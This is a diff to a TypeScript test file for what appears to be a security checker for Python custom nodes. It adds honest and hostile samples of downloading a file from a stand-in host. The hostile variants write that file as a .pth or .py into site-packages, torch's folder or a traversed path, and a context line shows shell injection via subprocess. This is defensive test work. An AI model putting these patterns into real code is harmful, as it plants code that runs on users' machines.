@@ -23,6 +23,11 @@ async function levelOf(files: Files): Promise<string> {
 const inNode = (before: string, ...statements: string[]): string =>
   `${before}\nclass A:\n    def run(self, x):\n${statements.map((line) => `        ${line}\n`).join('')}NODE_CLASS_MAPPINGS = {"A": A}\n`;
 
+const OWN = 'import os, requests\nPATH = os.path.join(os.path.dirname(os.path.abspath(__file__))';
+const DOWNLOAD = [
+  'with open(PATH, "wb") as file:',
+  '    for part in requests.get("https://e.example/a", stream=True).iter_content(9): file.write(part)',
+];
 const COPY = 'import os, types\ndef f():\n    run("a")\ndef copy(f):\n    return ';
 
 describe('the checks accept the honest use, and hold the hostile one, of', () => {
@@ -92,6 +97,20 @@ describe('the checks accept the honest use, and hold the hostile one, of', () =>
             'command = "true %s" % code',
             'subprocess.run(command, shell=True)',
           ),
+        ],
+      },
+    ],
+    [
+      'weights in a .pth file of the own folder',
+      {
+        honest: inNode(`${OWN}, "weights.pth")`, ...DOWNLOAD),
+        hostile: [
+          inNode(`${OWN}, "../../../x.pth")`, ...DOWNLOAD),
+          inNode(`${OWN}, "python_embeded", "x.pth")`, ...DOWNLOAD),
+          inNode(`import site\n${OWN}, site.getsitepackages()[0], "x.pth")`, ...DOWNLOAD),
+          inNode(`import torch\n${OWN}, torch.__path__[0], "x.pth")`, ...DOWNLOAD),
+          inNode('import requests\nPATH = "x.pth"', ...DOWNLOAD),
+          inNode(`${OWN}, "x.py")`, ...DOWNLOAD),
         ],
       },
     ],
